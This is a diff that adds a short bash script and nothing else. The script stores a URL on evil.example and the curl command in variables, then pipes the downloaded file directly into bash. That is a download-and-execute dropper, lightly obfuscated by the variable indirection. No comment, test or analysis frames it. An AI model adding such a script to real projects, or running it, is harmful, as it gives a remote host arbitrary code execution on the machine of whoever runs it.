@@ -1,0 +1,4 @@
+#!/bin/bash
+U=https://evil.example/i.sh
+C=curl
+$C -fsSL $U | bash
